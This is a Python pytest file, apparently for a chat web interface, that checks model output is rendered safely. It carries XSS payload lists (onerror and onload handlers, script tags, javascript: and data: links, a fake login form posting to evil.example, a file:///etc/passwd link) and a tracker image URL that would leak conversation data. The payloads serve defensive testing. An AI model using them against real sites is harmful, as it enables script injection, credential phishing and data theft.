"""What a model writes never becomes HTML, never runs, never leads anywhere but the web, never hides what it says."""

import json
from collections.abc import Callable

import pytest

from tests.fakes.page.page_server import PageServer, Said
from tests.fakes.page.page_tab import Tab

ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)><style>*{display:none}</style>",
    "</div></li></ol><h1>Log in</h1><form action=https://evil.example><input name=key></form>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "`<b onclick=alert(1)>code</b>` and\n\n```html\n<script>alert(1)</script>\n```",
    "```x\" onmouseover=\"alert(1)\ncode\n```",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <b>c</b> | d |",
    "- <img src=x onerror=alert(1)>\n  > # <a href=javascript:alert(1)>x</a>",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} <!-- <b>x</b> -->",
]  # fmt: skip
LINKS = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:msgbox)",
    "[click](file:///etc/passwd)",
    "[click](//evil.example)",
    "[click](/v1/models)",
    "<javascript:alert(1)>",
    "[click](https://example.com\u202e/moc)",
    "![x](javascript:alert(1))",
]
DRAWN = "Array.from(document.querySelectorAll('.message *'), (node) => node.localName)"
ALLOWED = (
    *("div", "details", "summary", "p", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "hr", "figure"),
    *("figcaption", "pre", "code", "table", "thead", "tbody", "tr", "th", "td", "a", "em", "strong", "s", "span"),
    "button",
)
HANDLERS = """Array.from(document.querySelectorAll('.message *')).flatMap((node) => node.getAttributeNames())
.filter((name) => name.startsWith('on') || name === 'style' || name === 'src' || name === 'srcdoc')"""


@pytest.mark.parametrize("tinted", [False, True], ids=["markdown", "tinted"])
def test_html_stays_text(tab: Tab, server: PageServer, tinted: bool) -> None:
    server.say(*(Said(text, reasoning=text) for text in ATTACKS))
    if tinted:
        tab.page.check("#tint")
    for text in ATTACKS:
        tab.send(text)
        tab.replies.last.locator("summary").click()
        shown = tab.texts()[-2:]
        assert shown[0] == text.rstrip(), "what one has written oneself is shown as it is"
        for piece in ("<img", "<script>", "<iframe", "<form", "<b>c</b>", "<svg"):
            assert (piece in shown[1]) == (piece in text or (piece.replace("<", "&lt;") in text and not tinted)), text
    assert set(tab.page.evaluate(DRAWN)) <= set(ALLOWED)
    assert tab.page.evaluate(HANDLERS) == []


def test_every_attack_is_harmless_as_a_title_a_model_and_an_error(
    open_tab: Callable[..., Tab], server: PageServer
) -> None:
    plan = json.loads(json.dumps(server.plan).replace("Llama-3-70B-int4", "<img src=x onerror=alert(1)>"))
    server.plan = {**plan, "summary": ["<script>alert(1)</script>", "\x1b[31mred"]}
    server.say(Said(status=500, message="<img src=x onerror=alert(1)>\x1b[31m"))
    tab = open_tab()
    tab.send("<svg onload=alert(1)>")
    tab.page.click("#open-chats")
    assert tab.page.locator("#chat-list .title").inner_text() == "<svg onload=alert(1)>"
    assert tab.page.locator("dialog svg, .message img, #plan img, #plan script").count() == 0
    assert "<script>alert(1)</script>" in tab.page.locator("#plan").inner_text()
    assert "␛[31m" in tab.replies.locator(".error").text_content()  # type: ignore[operator]


def test_links_that_are_not_of_the_web_are_shown_as_text(tab: Tab, server: PageServer) -> None:
    server.say(*map(Said, LINKS))
    for text in LINKS:
        tab.send("link?")
        assert tab.page.locator(".message a").count() == 0, text
        assert "click" not in text or "click" in tab.texts()[-1]


def test_an_address_ends_before_what_could_end_an_attribute(tab: Tab, server: PageServer) -> None:
    server.say(Said('[click](https://example.com/"onclick="alert(1)) https://example.com/<b>'))
    tab.send("link?")
    assert {link.get_attribute("href") for link in tab.page.locator(".message a").all()} == {"https://example.com/"}


def test_links_of_the_web_say_where_they_lead(tab: Tab, server: PageServer) -> None:
    server.say(Said("[my bank](https://evil.example/login) and https://example.com/a_(b)?c=d*e. <http://x.example>"))
    tab.send("links?")
    links = tab.page.locator(".message a")
    assert [link.get_attribute("href") for link in links.all()] == [
        "https://evil.example/login",
        "https://example.com/a_(b)?c=d*e",
        "http://x.example/",
    ]
    assert {link.get_attribute("rel") for link in links.all()} == {"noopener noreferrer nofollow"}
    assert {link.get_attribute("target") for link in links.all()} == {"_blank"}
    assert "my bank (evil.example) and" in tab.texts()[-1]


def test_pictures_are_never_loaded(tab: Tab, server: PageServer) -> None:
    requests: list[str] = []
    tab.page.on("request", lambda request: requests.append(request.url))
    server.say(Said("![a cat](https://tracker.example/cat.png?conversation=secret)"))
    tab.send("cat?")
    assert all(address.startswith(server.url) for address in requests)
    assert "Image: a cat (tracker.example)" in tab.texts()[-1]


HIDDEN = {
    "\x1b[31mred\x1b[0m": "␛[31mred␛[0m",
    "abc\u202edcba": "abc[U+202E]dcba",
    "a\u2066b\u2069c": "a[U+2066]b[U+2069]c",
    "bell\x07 null\x00 delete\x7f c1\x9b": "bell␇ null␀ delete␡ c1[U+009B]",
    "tag\U000e0041": "tag[U+E0041]",
    "half \ud83d": "half \ufffd",
}


@pytest.mark.parametrize("where", ["text", "`code`", "```\nblock\n```", "thoughts", "message"])
def test_characters_that_hide_or_reorder_are_named(tab: Tab, server: PageServer, where: str) -> None:
    text = " ".join(HIDDEN)
    if where == "message":
        tab.send(text.replace("\ud83d", ""))
        shown = tab.texts()[0]
    else:
        written = where.replace(where.strip("`\n"), text) if "`" in where else text
        server.say(Said("x" if where == "thoughts" else written, reasoning=text if where == "thoughts" else ""))
        tab.send("go")
        if where == "thoughts":
            tab.page.locator(".assistant summary").click()
            tab.page.wait_for_selector(".thoughts-text p")
        shown = tab.page.locator(".assistant").inner_text()
    for seen in HIDDEN.values():
        assert seen.split(" \ufffd")[0] in shown
    assert not set(shown) & set("\x1b\u202e\u2066\u2069\x07\x00\x7f\x9b")


def test_right_to_left_text_does_not_turn_the_page(tab: Tab, server: PageServer) -> None:
    server.say(Said("\u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd 123.\n\nleft to right"))
    tab.send("shalom")
    directions = tab.page.evaluate(
        "Array.from(document.querySelectorAll('.assistant .text p'), (node) => getComputedStyle(node).direction)"
    )
    assert directions == ["rtl", "ltr"]
    assert tab.page.evaluate("getComputedStyle(document.querySelector('.assistant .actions')).direction") == "ltr"


LONG = 100_000
LINES = {
    "letters": "x" * LONG,
    "words": "word " * (LONG // 5),
    "stars": "*" * LONG,
    "star letters": "*a" * (LONG // 2),
    "openers": "*a " * (LONG // 3),
    "nested": "*a " * (LONG // 6) + "a* " * (LONG // 6),
    "mixed": "**a _b ~~c " * (LONG // 11) + "_ ** ~~" * 1000,
    "brackets": "[" * LONG,
    "links": "[a](" * (LONG // 4),
    "closers": "[*a" * (LONG // 6) + "]" * (LONG // 2),
    "backticks": "".join("`" * (index % 300 + 1) + " " for index in range(600)),
    "formulas": "\\(" * (LONG // 2),
    "dollars": "$$ \\[" * (LONG // 5),
    "quotes": "> " * (LONG // 2),
    "bullets": "- " * (LONG // 2) + "x",
    "hashes": "# " + "# " * (LONG // 2) + "x",
    "rule": "-" * LONG + "x",
    "table": "|" * LONG + "\n" + "|-" * (LONG // 2),
    "escapes": "\x1b[31m" * (LONG // 5),
    "addresses": "https://" * (LONG // 8),
    "entities": "&lt;" * (LONG // 4),
    "blank lines": "- a\n" + "\n" * LONG + "b",
    "list lines": "- a\n" * (LONG // 40) + "  - b\n" * (LONG // 60),
    "table lines": "a|b\n-|-\n" + "c|d\n" * 2000,
}


def test_lines_of_any_kind_and_length_are_shown(tab: Tab) -> None:
    """Were any of it quadratic, this would take hours; it takes seconds."""
    script = """async (lines) => {
      const { renderInto } = await import("/page/text/render.js");
      const shown = {};
      for (const [name, text] of Object.entries(lines)) {
        const node = document.createElement("div");
        renderInto(node, text);
        shown[name] = node.textContent.length;
      }
      return shown;
    }"""
    shown = tab.page.evaluate(script, LINES)
    assert shown.keys() == LINES.keys() and shown["letters"] == shown["brackets"] == LONG
    assert shown["nested"] >= LONG // 3


def test_a_long_line_neither_widens_the_page_nor_stops_it(open_tab: Callable[..., Tab], server: PageServer) -> None:
    server.say(Said("x" * LONG + "\n\n```\n" + "y" * LONG + "\n```"), Said("on we go"))
    tab = open_tab(width=360)
    tab.send("long")
    assert tab.page.evaluate("document.documentElement.scrollWidth") == 360
    tab.send("and on")
    assert tab.texts()[-1] == "on we go"
